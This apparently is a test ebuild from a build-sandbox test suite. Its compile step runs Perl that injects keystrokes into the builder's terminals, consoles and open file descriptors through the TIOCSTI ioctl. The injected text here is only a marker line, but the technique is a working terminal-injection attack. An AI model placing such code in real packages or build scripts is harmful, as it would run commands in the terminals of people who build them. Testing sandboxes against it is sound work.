# try: types into the terminal of the person who builds
# outcome: any
# terminal: yes
EAPI=8
inherit hostile
src_compile() {
	perl -e '
		for my $name ("/dev/tty", glob("/dev/pts/*"), "/dev/console", glob("/proc/*/fd/[0-9]")) {
			open(my $terminal, "+<", $name) or next;
			ioctl($terminal, 0x5412, my $letter = $_) for split //, "typed-by-the-ebuild\n";
		}
		for my $descriptor (0 .. 9) {
			open(my $terminal, "+<&=", $descriptor) or next;
			ioctl($terminal, 0x5412, my $letter = $_) for split //, "typed-by-the-ebuild\n";
		}'
	return 0
}
